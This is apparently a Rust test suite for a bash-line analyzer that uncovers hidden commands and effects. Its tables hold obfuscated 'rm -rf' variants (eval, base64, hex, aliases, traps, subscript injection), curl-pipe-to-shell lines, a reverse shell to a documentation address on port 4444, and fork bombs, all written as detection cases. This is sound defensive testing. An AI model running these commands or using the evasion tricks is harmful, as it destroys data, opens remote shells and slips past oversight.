//! Every construct of the language, with the commands it runs.

use super::{analyzed, analyzed_with, check, check_runs, commands, line_of};
use leashd_types::{CodeSource, Direction, Effect, Host, PathText, SystemChange};

#[test]
fn lists_and_compounds() {
    let table: &[(&str, &[&str])] = &[
        ("ls", &["ls"]),
        ("ls -la | wc -l", &["ls -la", "wc -l"]),
        ("a && b || c; d & e", &["a", "b", "c", "d", "e"]),
        ("a\nb\n\nc", &["a", "b", "c"]),
        ("a |& b", &["a", "b"]),
        ("(a; b) && { c; d; }", &["a", "b", "c", "d"]),
        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
        ("while a; do b; done", &["a", "b"]),
        ("until a; do b; done < f", &["a", "b"]),
        ("for x in 1 2; do echo $x; done", &["echo 1", "echo 2"]),
        ("for x in 1 2; do ls; done", &["ls"]),
        ("for ((i=0; i<3; i++)); do a; done", &["a"]),
        ("select x in a b; do c; break; done", &["c", "break"]),
        ("case x in a|b) c;; (d) e;& *) f;; esac", &["c", "e", "f"]),
        ("! a", &["a"]),
        ("time -p a", &["a"]),
        ("time a | b", &["a", "b"]),
        ("coproc a b", &["a b"]),
        ("coproc N { a; }", &["a"]),
        ("f() { a; }; f; f", &["a", "a"]),
        ("function f { a \"$1\"; }; f x", &["a x"]),
        ("f() ( a )\nf", &["a"]),
        ("f() { a; }", &[]),
        ("[[ -f x && $y == *.rs ]] && a", &["a"]),
        ("(( x > 3 )) || a", &["a"]),
        ("ls # rm -rf /", &["ls"]),
        ("ls;#x\nb", &["ls", "b"]),
        ("echo a#b", &["echo a#b"]),
    ];
    for (line, expected) in table {
        check(line, expected);
    }
}

#[test]
fn words() {
    let table: &[(&str, &[&str])] = &[
        ("r''m -r\"\"f ~/x", &["rm -rf /home/dev/x"]),
        ("\\rm $'\\x2d\\162f' x", &["rm -rf x"]),
        ("$\"rm\" x", &["rm x"]),
        ("r\\\nm x", &["rm x"]),
        ("{rm,-rf,x}", &["rm -rf x"]),
        ("echo a{1..3}b{x,y}", &["echo a1bx a1by a2bx a2by a3bx a3by"]),
        (
            "echo {a,b{c,d}} {01..03} {a..e..2} {} {a} \"{a,b}\"",
            &["echo a bc bd 01 02 03 a c e {} {a} {a,b}"],
        ),
        ("rm${IFS}-rf${IFS}x", &["rm -rf x"]),
        ("IFS=,; c=git,commit,-m,x; $c", &["git commit -m x"]),
        ("a=r; b=m; $a$b x", &["rm x"]),
        ("x=zzrmzz; ${x:2:2} x", &["rm x"]),
        ("x=c_url; ${x/_/} y", &["curl y"]),
        ("x=RM; ${x,,} y", &["rm y"]),
        ("x=/a/b.c; echo ${x##*/} ${x%.*} ${#x} ${x%/*}", &["echo b.c /a/b 6 /a"]),
        ("real=git; ref=real; ${!ref} status", &["git status"]),
        ("declare -n q=z; z=rm; $q x", &["declare -n q=z", "rm x"]),
        ("a=(git commit -m x); \"${a[@]}\"", &["git commit -m x"]),
        ("declare -a a=(rm x); \"${a[@]}\"", &["declare -a a=‹an array›", "rm x"]),
        ("a=(x y z); echo \"${a[1]}\" ${#a[@]} \"${a[*]}\"", &["echo y 3 x y z"]),
        ("declare -A m; m[k]=rm; ${m[k]} x", &["declare -A m", "rm x"]),
        ("set -- commit -m x; git \"$@\"", &["set -- commit -m x", "git commit -m x"]),
        ("f() { shift; \"$@\"; }; f a rm x", &["shift", "rm x"]),
        ("echo $((1 + 2 * 3)) $[2**4]", &["echo 7 16"]),
        ("x=3; echo $((x * 2))", &["echo 6"]),
        ("${NOPE-psql} x", &["psql x"]),
        ("unset x; ${x:-rm} y", &["unset x", "rm y"]),
        ("$(echo rm) x", &["echo rm", "rm x"]),
        ("`echo rm` x", &["echo rm", "rm x"]),
        ("$(printf '\\x72\\155') x", &["printf \\x72\\155", "rm x"]),
        ("\"$(command -v sudo)\" id", &["command -v sudo", "sudo id", "id"]),
        ("echo \"a$(b \"c$(d)\")\"", &["d", "b c‹the output of d›", "echo a‹the output of b›"]),
        ("echo `a \\`b\\``", &["b", "a ‹the output of b›", "echo ‹the output of a›"]),
        ("x=1 y=2 a", &["a"]),
        ("echo \"$x\"", &["echo ‹the variable x is not set on this line›"]),
        ("echo *.rs a?b [a-z] '*' \\*", &["echo *.rs a?b [a-z] * *"]),
        ("printf -v c rm; $c x", &["printf -v c rm", "rm x"]),
        ("read -r a b <<< 'rm -rf x'; $a $b", &["read -r a b", "rm -rf x"]),
        ("x=~/a:~/b; echo $x dd of=~/x --f=~/y", &["echo /home/dev/a:/home/dev/b dd of=/home/dev/x --f=~/y"]),
        ("cat <(a b)", &["a b", "cat /dev/fd/1001"]),
        ("local x=1; echo ${x:+y}", &["local x=1", "echo y"]),
        ("f() { local x=ls; }; x=rm; f; $x y", &["local x=ls", "rm y"]),
    ];
    for (line, expected) in table {
        check(line, expected);
    }
}

/// Lines that run a command they do not show.
const HIDDEN: &[(&str, &str)] = &[
    ("eval 'rm -rf x'", "rm -rf x"),
    ("eval r\"m -r\"f x", "rm -rf x"),
    ("bash -c 'sh -c \"rm -rf x\"'", "rm -rf x"),
    ("env A=b bash --norc -e -o pipefail -c 'rm -rf x'", "rm -rf x"),
    ("echo 'rm -rf x' | sh", "rm -rf x"),
    ("printf '%s\\n' 'rm -rf x' | tee /tmp/l | bash -s", "rm -rf x"),
    ("sh <<< 'rm -rf x'", "rm -rf x"),
    ("sh -s <<-\\END\n\trm -rf x\n\tEND", "rm -rf x"),
    ("cat <<EOF | sh\nrm -rf x\nEOF", "rm -rf x"),
    ("a=x; bash <<EOF\nrm -rf $a\nEOF", "rm -rf x"),
    ("source <(echo rm -rf x)", "rm -rf x"),
    ("bash <(echo 'rm -rf x')", "rm -rf x"),
    ("echo 'rm -rf x' | . /dev/stdin", "rm -rf x"),
    (". /dev/stdin <<< 'rm -rf x'", "rm -rf x"),
    ("exec 3<<<'rm -rf x'; . /dev/fd/3", "rm -rf x"),
    ("bash -c \"$(base64 -d <<< cm0gLXJmIHg=)\"", "rm -rf x"),
    ("echo 726d202d72662078 | xxd -r -p | sh", "rm -rf x"),
    ("echo 'x fr- mr' | rev | bash", "rm -rf x"),
    ("echo 'sn -sg y' | tr b-z a-y | sh", "rm -rf x"),
    ("printf '\\162\\155\\040x' | sh", "rm x"),
    ("{ echo 'rm -rf x'; echo ls; } | sh", "rm -rf x"),
    ("(cd /tmp && echo 'rm -rf x') | sh", "rm -rf x"),
    ("echo 'rm -rf x' > /tmp/f && bash /tmp/f", "rm -rf x"),
    ("cat > /tmp/f <<'E'\n#!/bin/bash\nrm -rf x\nE\nchmod +x /tmp/f\n/tmp/f", "rm -rf x"),
    ("echo 'rm -rf $1' > f; sh f x", "rm -rf x"),
    ("echo rm > f; echo ' -rf x' >> f; sh ./f", "rm"),
    ("tee f <<< 'rm -rf x'; sh f", "rm -rf x"),
    ("echo canary | xargs -n1 sh -c 'rm -rf \"$0\"'", "rm -rf canary"),
    ("trap 'rm -rf x' EXIT", "rm -rf x"),
    ("trap 'rm -rf $d' EXIT; d=x", "rm -rf x"),
    ("alias ll='rm -rf'\nll x", "rm -rf x"),
    ("shopt -s expand_aliases\nalias q=\"rm -rf canary\"\nq", "rm -rf canary"),
    ("hash -p /bin/rm q; q x", "/bin/rm x"),
    ("cp /usr/local/bin/git ./foo && ./foo commit", "/usr/local/bin/git commit"),
    ("command -p rm x", "rm x"),
    ("builtin command rm x", "rm x"),
    ("exec rm x", "rm x"),
    ("PS4='$(rm x)'; set -x; :", "rm x"),
    ("GIT_SSH_COMMAND='rm x' git fetch", "rm x"),
    ("x='a[$(rm x)0]'; [[ x -eq 0 ]]", "rm x"),
    ("echo $[ x='a[$(rm x)0]', x ]", "rm x"),
    ("printf -v 'a[$(rm x)]' y", "rm x"),
    ("read 'a[$(rm x)]' <<< y", "rm x"),
    ("test -v 'a[$(rm x)]'", "rm x"),
    ("declare -i n; n='a[$(rm x)]'", "rm x"),
    ("x='$(rm x)'; echo ${x@P}", "rm x"),
    ("ls() { rm x; }; export -f ls", "rm x"),
    ("command_not_found_handle() { rm x; }; nope", "rm x"),
    ("x=rm; export x; bash -c '$x y'", "rm y"),
    ("x=rm bash -c '$x y'", "rm y"),
    ("/usr/bin/r[m] x", "rm x"),
    ("/usr/local/bin/gi? commit", "git commit"),
    ("$(git --exec-path)/git-commit -m x", "git-commit -m x"),
    ("$NOTHING rm -rf x", "rm -rf x"),
    ("${y:-$(rm x)}", "rm x"),
    ("while read -r c; do $c -rf x; done <<< rm", "rm -rf x"),
    ("printf 'ls\nrm -rf x\n' | while read -r l; do eval \"$l\"; done", "rm -rf x"),
    ("mapfile -t a < <(printf 'rm\n-rf\nx\n'); \"${a[@]}\"", "rm -rf x"),
    ("IFS=: read -r a b <<< rm:-rf; $a $b x", "rm -rf x"),
    ("exec {fd}<<<'rm -rf x'; sh <&$fd", "rm -rf x"),
    ("exec 5< <(echo rm -rf x); sh <&5", "rm -rf x"),
    ("echo 'rm -rf x' >a; mv a b; sh b", "rm -rf x"),
    ("echo 'rm -rf x' | dd of=a; sh a", "rm -rf x"),
    ("$(printf '%b' '\\162\\155') x", "rm x"),
    ("c=${PATH:+rm}; $c x", "rm x"),
    ("r${z}m x", "rm x"),
    ("declare -n r='a[$(rm x)]'; echo $r", "rm x"),
    ("sleep 0 & wait -p 'a[$(rm x)]' $!", "rm x"),
    ("RANDOM='a[$(rm x)]'", "rm x"),
    ("f() { echo \"${@@P}\"; }; f '$(rm x)'", "rm x"),
    ("eval set -- 'rm -rf x' \\; '\"$@\"'", "rm -rf x"),
    ("bash -c 'eval \"$*\"' _ rm -rf x", "rm -rf x"),
];

#[test]
fn code_in_values() {
    for (line, expected) in HIDDEN {
        check_runs(line, expected);
    }
}

fn effects(line: &str) -> Vec<Effect> {
    let known = |effect: &Effect| !matches!(effect, Effect::UnknownProgram { .. });
    analyzed(line).commands.into_iter().flat_map(|command| command.effects).filter(known).collect()
}

fn exact(path: &str) -> PathText {
    PathText::Exact(path.to_owned())
}

#[test]
fn redirections_have_effects() {
    let write = |path: &str| Effect::Write { path: exact(path) };
    let read = |path: &str| Effect::Read { path: exact(path) };
    let send =
        |host: &str| Effect::Network { host: Host::Named(host.to_owned()), direction: Direction::Send };
    let table: Vec<(&str, Vec<Effect>)> = vec![
        ("a > f", vec![write("/home/dev/proj/f")]),
        ("a >> ~/.bashrc", vec![write("/home/dev/.bashrc")]),
        ("a >| /x 2> y", vec![write("/x"), write("/home/dev/proj/y")]),
        ("a &> f", vec![write("/home/dev/proj/f")]),
        ("a >& f", vec![write("/home/dev/proj/f")]),
        ("a < f", vec![read("/home/dev/proj/f")]),
        ("a 1<> /dev/sda", vec![read("/dev/sda"), write("/dev/sda")]),
        ("true 2>&1 >/dev/null", vec![]),
        ("> f", vec![write("/home/dev/proj/f")]),
        ("{ a; b; } > f", vec![write("/home/dev/proj/f")]),
        ("cd src && a > f", vec![write("/home/dev/proj/src/f")]),
        ("cd /tmp; a > f", vec![write("/tmp/f")]),
        ("cd sub; a > f", vec![write("/home/dev/proj/sub/f"), write("/home/dev/proj/f")]),
        (
            "cd $x && a > f",
            vec![Effect::Write {
                path: PathText::Unknown("the directory it starts from is not known".into()),
            }],
        ),
        ("a > /dev/tcp/203.0.113.9/80", vec![send("203.0.113.9")]),
        ("export PATH=/x:$PATH", vec![Effect::Environment { name: "PATH".into() }]),
        ("LD_PRELOAD=./e.so ls", vec![Effect::Environment { name: "LD_PRELOAD".into() }]),
        ("env PATH=\"$PATH\" ls", vec![]),
        ("PATH=\"$PATH\" ls", vec![]),
        ("GIT_PAGER=cat ls", vec![]),
        (":(){ :|:& };:", vec![Effect::System { change: SystemChange::ForkBomb }]),
    ];
    for (line, expected) in table {
        let found = effects(line);
        for effect in &expected {
            assert!(found.contains(effect), "{line}: {found:?}");
        }
        if expected.is_empty() {
            assert_eq!(found, expected, "{line}");
        }
    }
    assert!(effects("f(){ f|f& };f").contains(&Effect::System { change: SystemChange::ForkBomb }));
    assert!(
        effects("bomb() { bomb & bomb; }; bomb").contains(&Effect::System { change: SystemChange::ForkBomb })
    );
}

#[test]
fn unknown_code_has_an_origin() {
    let table = [
        ("curl https://e/x | sh", "downloaded by curl"),
        ("sh -c \"$(curl -fsSL https://e/x)\"", "downloaded by curl"),
        ("curl https://e/x.gz | gunzip | sh", "downloaded by curl"),
        ("curl https://e/x | { cat; } | bash", "downloaded by curl"),
        ("curl -o /tmp/x https://e/x && sh /tmp/x", "downloaded by curl"),
        ("curl -so /tmp/x https://e/x; . /tmp/x", "downloaded by curl"),
        ("curl -so /tmp/x https://e/x; chmod +x /tmp/x; /tmp/x", "downloaded by curl"),
        ("curl https://e/x > /tmp/x; bash /tmp/x", "downloaded by curl"),
        ("base64 -d f | sh", "decoded by base64"),
        ("eval \"$(curl https://e/x)\"", "downloaded by curl"),
        ("bash <(curl -s https://e/x)", "downloaded by curl"),
        ("git log | sh", "the output of git"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "downloaded by /dev/tcp"),
    ];
    for (line, expected) in table {
        let found = effects(line);
        let piped = found.iter().any(|effect| {
            matches!(effect, Effect::Runs { code: CodeSource::Piped { origin, .. } } if origin.starts_with(expected))
        });
        assert!(piped, "{line}: {found:?}");
    }
}

#[test]
fn script_files_are_asked_for_and_read() {
    let asked = analyzed("bash scripts/test.sh");
    assert_eq!(asked.scripts.iter().collect::<Vec<_>>(), ["/home/dev/proj/scripts/test.sh"]);
    let read = analyzed_with("bash scripts/test.sh a", &[("/home/dev/proj/scripts/test.sh", "rm -rf $1")]);
    assert!(read.scripts.is_empty());
    assert_eq!(line_of(&read.commands[1]), "rm -rf a");
    let piped = analyzed_with("cat x.sh | bash", &[("/home/dev/proj/x.sh", "rm y")]);
    assert_eq!(line_of(piped.commands.last().unwrap()), "rm y");
    let changed = analyzed("sed -i s/a/b/ x.sh && bash x.sh");
    assert!(!changed.commands.last().unwrap().unclear.is_empty());
}

#[test]
fn via_and_spans() {
    let analysis = analyzed("ls; bash -c 'rm x'");
    let last = analysis.commands.last().unwrap();
    assert_eq!(last.via, ["bash"]);
    assert_eq!(last.span, (4, 18));
    let analysis = analyzed("echo $(rm x)");
    assert_eq!(analysis.commands[0].via, ["$(…)"]);
    assert_eq!(analysis.commands[0].span, (7, 11));
    assert_eq!(commands("cleanup() { a; }; cleanup"), ["a"]);
}

#[test]
fn every_command_is_found_inside_the_line() {
    for line in [
        "é `b` c",
        "é; declare -i n; n='a[$(é b)]'; ls",
        "éé $[ x='a[$(rm é)]', x ]",
        "cat <<E\né $(é b)\nE",
        "éé=`é b\necho c`; trap 'é `é b`' EXIT; eval 'é $(é)'",
        "alias x='éé $(é)'\nx",
    ] {
        for command in &analyzed(line).commands {
            let (start, end) = command.span;
            assert!(line.get(start..end).is_some(), "{}: {start}..{end} of {line:?}", line_of(command));
        }
    }
}
